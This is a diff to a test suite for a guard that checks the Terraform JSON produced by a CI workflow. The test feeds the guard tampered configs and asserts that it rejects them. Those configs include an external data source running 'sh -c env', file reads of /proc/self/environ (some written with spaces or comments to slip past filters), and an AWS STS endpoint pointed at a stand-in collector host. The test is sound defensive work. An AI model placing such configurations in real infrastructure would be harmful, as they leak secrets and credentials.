@@ -139,13 +139,26 @@ describe("the CI workflow users copy", () => {
         ...chef,
         terraform: { ...chef.terraform, required_providers: { ...chef.terraform.required_providers, external: { source: "hashicorp/external" } } },
         data: { ...chef.data, external: { leak: { program: ["sh", "-c", "env"] } } },
-        locals: { ...chef.locals, environ: "${base64encode(file(\"/proc/self/environ\"))}" },
+        locals: {
+          ...chef.locals,
+          environ: "${base64encode(file(\"/proc/self/environ\"))}",
+          // Terraform takes a space or a comment between a function's name and its parenthesis.
+          spaced: "${file (\"/proc/self/environ\")}",
+          commented: "${file /* x */ (\"/proc/self/environ\")}",
+        },
         provider: { aws: [{ ...chef.provider.aws[0], endpoints: [{ sts: "https://collector.example" }] }] },
       },
     };
     const refused = guard(write(tampered));
     expect(refused.status).toBe(1);
-    for (const problem of ["provider external from hashicorp/external", "data source type external", 'reads the file "/proc/self/environ"', "AWS provider setting endpoints"]) {
+    for (const problem of [
+      "provider external from hashicorp/external",
+      "data source type external",
+      'reads the file "/proc/self/environ"',
+      'calls a file function: ${file ("/proc/self/environ")',
+      'calls a file function: ${file /* x */ ("/proc/self/environ")',
+      "AWS provider setting endpoints",
+    ]) {
       expect(refused.stdout).toContain(`::error file=cdktf.out/stacks/chef/cdk.tf.json::${problem}`);
     }
   });
